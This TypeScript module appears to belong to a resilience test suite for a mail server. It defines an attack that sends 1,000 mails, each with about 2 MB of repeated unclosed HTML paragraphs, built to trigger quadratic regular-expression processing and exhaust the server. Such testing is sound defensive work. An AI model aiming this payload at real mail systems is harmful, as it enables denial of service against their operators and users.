import type { Attack } from '../attack.ts';
import { createMailbox, message, sendMails } from '../attacked-mailbox.ts';

const paragraphs = 489;
const htmlBytes = 2 * 1024 * 1024;

/** Mail whose HTML made a regular expression look through each paragraph again for each of its characters. */
export const quadraticHtml: Attack = {
  id: '1a',
  name: 'mail with quadratic HTML',
  seconds: 15,
  prepare: async (target) => {
    const { address: recipient } = await createMailbox(target);
    const start = '<p style="opacity:1;';
    const paragraph = `${start}${'x'.repeat(Math.floor(htmlBytes / paragraphs) - start.length - 2)}">`;
    const content = message({ headers: ['Content-Type: text/html'], body: paragraph.repeat(paragraphs) });
    return async (over) => {
      const replies = await sendMails(target, { recipient, count: 1_000, content: () => content, over });
      return `mails: ${replies}`;
    };
  },
};
